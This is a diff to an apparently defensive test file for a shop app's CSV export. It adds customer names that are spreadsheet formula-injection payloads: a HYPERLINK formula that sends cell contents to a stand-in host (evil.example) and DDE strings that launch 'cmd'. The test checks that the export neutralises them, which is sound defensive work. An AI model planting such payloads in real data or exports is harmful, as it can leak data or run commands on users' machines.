@@ -4,7 +4,7 @@ import { addressRows, entranceRows } from "#test/hostile/addresses.ts";
 import { buyerRows } from "#test/hostile/buyers.ts";
 import { fieldRows, oddBodyRows } from "#test/hostile/fields.ts";
 import type { Ids } from "#test/hostile/fields.ts";
-import { openPage } from "#test/hostile/send.ts";
+import { ask, openPage, post } from "#test/hostile/send.ts";
 import type { Answer, Row } from "#test/hostile/send.ts";
 import { sessionRows } from "#test/hostile/tokens.ts";
 import { webhookRows } from "#test/hostile/webhooks.ts";
@@ -33,7 +33,10 @@ afterAll(async () => {
 
 async function makeThings(shopId: string): Promise<Ids> {
   const worker = await site.world.startWorker();
-  site.world.shop.placeOrder({ customer: "ana", lines: [{ sku: "NP-CHK-20" }] });
+  for (const [handle, formula] of formulas) {
+    site.world.shop.customer(handle).firstName = formula;
+    site.world.shop.placeOrder({ customer: handle, lines: [{ sku: "NP-CHK-20" }] });
+  }
   await site.world.settled();
   await worker.stop(5);
   const customer = await db.customer.findFirstOrThrow();
@@ -47,6 +50,15 @@ async function makeThings(shopId: string): Promise<Ids> {
   });
   return { customer: customer.id, failure: failure.id, chain: chain.id, view: view.id, distributor: distributor.id };
 }
+
+/** What customers may call themselves in a shop. */
+const formulas = [
+  ["ana", `=HYPERLINK("http://evil.example?"&A1,"ok")`],
+  ["ben", `@SUM(1+1)*cmd|' /C calc'!A0`],
+  ["chloe", "+1+cmd|' /C calc'!A0"],
+  ["elsie", "-2+3"],
+  ["kim", "\t=1+1"],
+] as const;
 
 /** How many rows each table has. */
 async function countRows(): Promise<Record<string, number>> {
@@ -103,6 +115,20 @@ describe.each(groups)("%s", (group, rowsOf) => {
     expect(changed.filter((table) => !(group === "A text field" && mayGrow.has(table)))).toEqual([]);
     expect(changed.filter((table) => (after[table] ?? 0) < (before[table] ?? 0))).toEqual([]);
   });
+});
+
+it("a file for a spreadsheet holds no formula of a customer's", async () => {
+  const asked = await post(site, "/app/failures.data?index", { intent: "export", query: "days=all", locale: "en" });
+  expect(asked.status).toBe(200);
+  const worker = await site.world.startWorker();
+  await site.world.settled();
+  await worker.stop(5);
+  const { id } = await db.bulkRun.findFirstOrThrow({ where: { kind: "export" }, orderBy: { createdAt: "desc" } });
+  const file = await ask(site, `/app/exports/${id}`, { headers: { Authorization: `Bearer ${site.world.shop.sessionToken()}` } });
+  expect([file.status, file.headers.get("Content-Type")]).toEqual([200, "text/csv; charset=utf-8"]);
+  for (const [, formula] of formulas) expect(file.body).toContain(`'${formula.trim().replaceAll('"', '""')}`);
+  // Where a cell begins: at a line's beginning or after a comma, quoted or not.
+  expect(file.body).not.toMatch(/(?:^|,|\n)"?[=+@\t\r-]/);
 });
 
 it("there are more than two hundred of them", () => {
